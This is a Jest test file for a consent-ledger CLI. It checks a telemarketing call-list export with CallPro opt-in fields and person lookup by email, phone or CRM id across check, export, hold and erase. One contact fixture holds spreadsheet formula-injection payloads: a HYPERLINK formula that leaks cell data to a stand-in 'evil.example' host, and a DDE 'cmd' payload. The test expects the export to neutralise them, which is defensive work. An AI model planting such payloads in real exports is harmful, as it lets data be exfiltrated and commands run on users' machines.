// Through the built CLI: the call list for a telemarketing run (CallPro's opt-in fields, only the
// people the ledger allows on the phone for the topic, cells safe to open in a spreadsheet), and a
// person named by email, phone or external id in check, export, hold and erase.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const BIN = join(__dirname, '..', '..', 'dist', 'cli', 'main.js');
const SECRET = 'cli-test-secret-0123456789-abcdefghijklmnop';
const NOW = '2026-11-23T09:00:00Z';
let dir: string;
let db: string;

function cli(args: string[]) {
  const run = spawnSync('/bin/sh', ['-c', 'umask 022; exec "$0" "$@"', process.execPath, BIN, ...args, '--db', db, '--now', NOW], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH, CONSENT_SECRET: SECRET },
  });
  const lines = run.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
  return { code: run.status, lines, stderr: run.stderr, first: lines[0] };
}

const HEADER = 'email,name,phone,external_id,topic,channel,status,basis,optin_who,optin_source,optin_date,optin_id,optin_description';
const CONTACTS = [
  'anna@example.nl,Anna de Vries,0611111111,CRM-1,calls,phone,subscribed,consent,Anna de Vries,beurs Utrecht,2026-03-01,F-1,zei ja aan de stand',
  // A formula as a name, and in the evidence: it must reach the spreadsheet as text.
  ',"=HYPERLINK(""https://evil.example/?""&A1,""klik"")",+31622222222,CRM-2,calls,phone,subscribed,consent,@Jan,"-2+3",2026-04-02,F-2,"+cmd|\' /C calc\'!A0"',
  ',"Jansen, Bert",+31633333333,CRM-3,calls,phone,subscribed,legitimate_interest,,,,,', // no consent: phone needs it
  ',Cees,+31644444444,CRM-4,calls,phone,unsubscribed,,,,,,',
  ',Dirk,+31655555555,CRM-5,newsletter,phone,subscribed,consent,Dirk,webform,2026-05-01,F-5,', // another topic
  'eva@example.nl,Eva,,CRM-6,calls,email,subscribed,consent,Eva,webform,2026-05-01,F-6,', // no phone
  ',Fien,+31677777777,CRM-7,calls,phone,subscribed,consent,Fien,beurs,2026-06-01,F-7,', // erased below
  ',Gijs,+31688888888,CRM-8,calls,phone,subscribed,consent,Gijs,telefoon,2026-06-02,,belde zelf',
];

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'consent-cli-calllist-'));
  db = join(dir, 'ledger.sqlite');
  expect(cli(['init']).code).toBe(0);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

function importContacts() {
  const csv = join(dir, 'contacts.csv');
  writeFileSync(csv, [HEADER, ...CONTACTS].join('\n'));
  expect(cli(['import', csv])).toMatchObject({ code: 0 });
}

test('export-calllist: only the people allowed on the phone for the topic, with CallPro fields, formulas neutralised, 0600', () => {
  importContacts();
  expect(cli(['erase', '--phone', '06 777 777 77']).first).toMatchObject({ outcome: 'erased' });
  const file = join(dir, 'bellijst.csv');
  const run = cli(['export-calllist', '--topic', 'Calls', file]);
  expect(run).toMatchObject({ code: 0, lines: [{ file, topic: 'calls', channel: 'phone', people: 3 }] });
  const gijs = cli(['check', '--external-id', 'CRM-8', '--topic', 'calls', '--channel', 'phone']).first;
  expect(readFileSync(file, 'utf8')).toBe(
    [
      '\uFEFFname,phone,optin_who,optin_source,optin_date,optin_id,optin_description',
      'Anna de Vries,+31611111111,Anna de Vries,beurs Utrecht,2026-03-01,F-1,zei ja aan de stand',
      `"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")",+31622222222,'@Jan,'-2+3,2026-04-02,F-2,'+cmd|' /C calc'!A0`,
      // Without an external opt-in id, CallPro's optin_id is the ledger's event.
      `Gijs,+31688888888,Gijs,telefoon,2026-06-02,${gijs.optin_id as string},belde zelf`,
      '',
    ].join('\r\n'),
  );
  expect(gijs.optin_id).toMatch(/^ledger-event-\d+$/);
  expect((statSync(file).mode & 0o777).toString(8)).toBe('600'); // names and numbers: personal data
  expect(readdirSync(dir).sort()).toEqual(['bellijst.csv', 'contacts.csv', 'ledger.sqlite']); // no partial file left
  // The list agrees with check, person by person.
  for (const [ref, allowed] of [['+31611111111', true], ['+31633333333', false], ['+31644444444', false], ['+31655555555', false]] as const) {
    expect(cli(['check', ref, '--topic', 'calls', '--channel', 'phone']).first).toMatchObject({ allowed });
  }
  // --strict is accepted (the phone channel is strict already); a topic nobody has gives a header only.
  expect(cli(['export-calllist', '--topic', 'calls', file, '--strict']).first).toMatchObject({ people: 3 });
  expect(cli(['export-calllist', '--topic', 'events', file]).first).toMatchObject({ people: 0 });
  expect(readFileSync(file, 'utf8')).toBe('\uFEFFname,phone,optin_who,optin_source,optin_date,optin_id,optin_description\r\n');
});

test.each([
  [['export-calllist', 'x.csv'], '--topic: give the topic the calls are about'],
  [['export-calllist', '--topic', 'calls'], 'give exactly one FILE.csv'],
  [['export-calllist', '--topic', '??', 'x.csv'], '--topic, a topic is 1–64 letters'],
  [['export-calllist', '--topic', 'calls', '/no/such/folder/x.csv'], 'cannot write /no/such/folder/x.csv: ENOENT'],
])('export-calllist %j → exit 2: %s', (args, message) => {
  const run = cli(args);
  expect(run.code).toBe(2);
  expect(run.stderr).toContain(message);
  expect(run.lines).toEqual([]);
});

test('a person by email, +PHONE, --phone or --external-id in check, export, hold and erase', () => {
  importContacts();
  const byEmail = cli(['check', 'ANNA@example.nl', '--topic', 'calls', '--channel', 'phone']).first;
  expect(byEmail).toMatchObject({ allowed: true, optin_id: 'F-1' });
  expect(cli(['check', '+31611111111', '--topic', 'calls', '--channel', 'phone']).first).toEqual(byEmail);
  expect(cli(['check', '--phone', '06-1111 1111', '--topic', 'calls', '--channel', 'phone']).first).toEqual(byEmail);
  expect(cli(['check', '--external-id', 'CRM-1', '--topic', 'calls', '--channel', 'phone']).first).toEqual(byEmail);

  const exported = cli(['export', '--external-id', 'CRM-4']).first as { subject: { name: string; phone: string } };
  expect(exported.subject).toMatchObject({ name: 'Cees', phone: '+31644444444' });
  expect(cli(['export', '+31644444444']).first).toEqual(exported);
  expect(cli(['export', '--external-id', 'CRM-404']).first).toEqual({ found: false });

  expect(cli(['hold', '--phone', '0644444444', '--until', '2033-01-01', '--reason', 'invoices: 7 years']).first).toMatchObject({ holdUntil: '2033-01-01T00:00:00.000Z' });
  expect(cli(['erase', '--external-id', 'CRM-4']).first).toMatchObject({ outcome: 'suppressed', holdReason: 'invoices: 7 years' });
  expect(cli(['erase', '+31655555555']).first).toMatchObject({ outcome: 'erased', externalIds: ['CRM-5'] });
  expect(cli(['export', '--phone', '+31655555555']).first).toEqual({ found: false });
  expect(cli(['unsubscribe', '--external-id', 'CRM-1', '--channel', 'phone']).first).toMatchObject({ outcome: 'unsubscribed' });
});

test.each([
  [['check', 'CRM-1'], 'email: "CRM-1" is not an email address (a phone number: +31612345678 or --phone; a CRM id: --external-id CRM-1)'],
  [['check', '+31 6 12'], 'phone: "+31 6 12" is not a phone number'],
  [['export', '--phone', '12'], '--phone: "12" is not a phone number'],
  [['erase', 'anna@example.nl', '--external-id', 'CRM-1'], 'give exactly one EMAIL, +PHONE, --phone NUMBER or --external-id ID'],
  [['hold', '--until', '2033-01-01', '--reason', 'x'], 'give exactly one EMAIL, +PHONE, --phone NUMBER or --external-id ID'],
])('bad person %j → exit 2: %s', (args, message) => {
  const run = cli(args);
  expect(run.code).toBe(2);
  expect(run.stderr).toContain(message);
  expect(run.stderr.trim().split('\n')).toHaveLength(1);
});
